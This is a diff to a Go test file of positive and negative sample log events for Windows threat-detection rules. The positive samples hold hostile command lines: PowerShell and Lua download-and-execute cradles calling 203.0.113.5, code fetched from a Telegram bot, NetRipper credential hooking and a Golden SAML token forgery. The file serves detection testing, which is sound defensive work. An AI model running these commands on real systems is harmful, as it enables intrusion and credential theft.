@@ -145,7 +145,7 @@ func init() {
 			ID:      "583a8073-6eea-4795-9760-107313cf44b7", // Telegram Bot API Called From a Command Line
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-				"CommandLine": "powershell.exe -nop -c \"$u=https://api.telegram.org/bot6012345678:AAH/getUpdates; iex (irm $u).result[-1].message.text\"",
+				"CommandLine": "powershell.exe -nop -c \"$u='https://api.telegram.org/bot6012345678:AAH/getUpdates'; iex (irm $u).result[-1].message.text\"",
 				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
 				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
@@ -426,7 +426,7 @@ func init() {
 			ID:      "76818ef4-d41f-4f9b-b517-67e9d3a51074", // Windows Installer Runs a Downloading or Encoded Script
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-				"CommandLine": "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString(http://203.0.113.5/a.ps1)\"",
+				"CommandLine": "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')\"",
 				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
 				"ParentImage": "C:\\Windows\\System32\\msiexec.exe",
 			},
@@ -487,6 +487,47 @@ func init() {
 				"ScriptBlockText": "$peb=[Marshal]::PtrToStructure($pbi.PebBaseAddress,[type][PEB]); $kct=$peb.KernelCallbackTable; [W]::WriteProcessMemory($hp,$newTable,$tbl,$tbl.Length,[ref]0)",
 			},
 		},
+		ruleSample{
+			ID:      "aacad6e0-587b-4f99-824a-9d231fd5912a", // Browser Saves an Executable or Container Built in the Page (HTML Smuggling)
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 15,
+			Fields: map[string]string{
+				"Contents":       "[ZoneTransfer]  ZoneId=3  HostUrl=about:internet  ",
+				"Image":          "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+				"TargetFilename": "C:\\Users\\bob\\Downloads\\Invoice_0412.iso:Zone.Identifier",
+			},
+		},
+		ruleSample{
+			ID:      "5fdd29ec-1dd6-4d1f-8884-0efd26eda2fc", // Credential API Hooking Tool Run (NetRipper)
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "NetRipper.exe -w DLL.dll -l TEMP -p true -d 4096 -s user,pass",
+				"Image":       "C:\\Users\\bob\\Desktop\\NetRipper.exe",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		ruleSample{
+			ID:      "929b6a03-9ad7-48cb-8e77-2c5d8d1641e4", // Lua Interpreter Runs Inline Code That Starts Commands
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "lua54.exe -e \"os.execute('powershell -w hidden -c iwr http://203.0.113.5/x -o x.exe; .\\x.exe')\"",
+				"Image":       "C:\\Users\\bob\\AppData\\Local\\Temp\\lua54.exe",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		ruleSample{
+			ID:      "c3b2b218-8819-4976-a70d-c392643255e0", // SAML Token Forged With a Stolen Signing Certificate (Golden SAML)
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "$t = New-AADIntSAMLToken -ImmutableID \"Ryz5Hk4sJ0+Xh3aVdT1b0Q==\" -PfxFileName .\\ADFSSigningCertificate.pfx -Issuer \"http://sts.contoso.com/adfs/services/trust\"",
+			},
+		},
+		ruleSample{
+			ID:      "f13c1e16-2f11-4bc8-98f4-cdb37785ca83", // Script Checks Whether a Debugger Is Attached
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "if ([Kernel32]::IsDebuggerPresent() -or [System.Diagnostics.Debugger]::IsAttached) { exit }",
+			},
+		},
 	)
 	ruleNegatives = append(ruleNegatives,
 		ruleSample{
@@ -528,7 +569,7 @@ func init() {
 			ID:      "3776e24b-a855-4392-9413-1ea3a642992c", // Script Resolves Windows API Addresses at Run Time
 			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
 			Fields: map[string]string{
-				"ScriptBlockText": "Add-Type -MemberDefinition [DllImport(\"user32.dll\")] public static extern bool MessageBeep(uint t); -Name Beep -Namespace Win32; [Win32.Beep]::MessageBeep(0)",
+				"ScriptBlockText": "Add-Type -MemberDefinition '[DllImport(\"user32.dll\")] public static extern bool MessageBeep(uint t);' -Name Beep -Namespace Win32; [Win32.Beep]::MessageBeep(0)",
 			},
 		},
 		ruleSample{
@@ -950,6 +991,47 @@ func init() {
 			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
 			Fields: map[string]string{
 				"ScriptBlockText": "$pbi = Get-ProcessBasicInformation -Id $pid; $pbi.PebBaseAddress",
+			},
+		},
+		ruleSample{
+			ID:      "aacad6e0-587b-4f99-824a-9d231fd5912a", // Browser Saves an Executable or Container Built in the Page (HTML Smuggling)
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 15,
+			Fields: map[string]string{
+				"Contents":       "[ZoneTransfer]  ZoneId=3  ReferrerUrl=https://www.google.com/  HostUrl=https://dl.google.com/chrome/install/ChromeSetup.exe  ",
+				"Image":          "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+				"TargetFilename": "C:\\Users\\bob\\Downloads\\ChromeSetup.exe:Zone.Identifier",
+			},
+		},
+		ruleSample{
+			ID:      "5fdd29ec-1dd6-4d1f-8884-0efd26eda2fc", // Credential API Hooking Tool Run (NetRipper)
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "netsh.exe trace start capture=yes report=disabled",
+				"Image":       "C:\\Windows\\System32\\netsh.exe",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		ruleSample{
+			ID:      "929b6a03-9ad7-48cb-8e77-2c5d8d1641e4", // Lua Interpreter Runs Inline Code That Starts Commands
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "lua54.exe -e \"print(_VERSION)\"",
+				"Image":       "C:\\Tools\\lua\\lua54.exe",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		ruleSample{
+			ID:      "c3b2b218-8819-4976-a70d-c392643255e0", // SAML Token Forged With a Stolen Signing Certificate (Golden SAML)
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Get-AdfsCertificate -CertificateType Token-Signing | Select-Object Thumbprint, IsPrimary",
+			},
+		},
+		ruleSample{
+			ID:      "f13c1e16-2f11-4bc8-98f4-cdb37785ca83", // Script Checks Whether a Debugger Is Attached
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Set-PSDebug -Trace 1; Get-PSBreakpoint | Remove-PSBreakpoint",
 			},
 		},
 	)
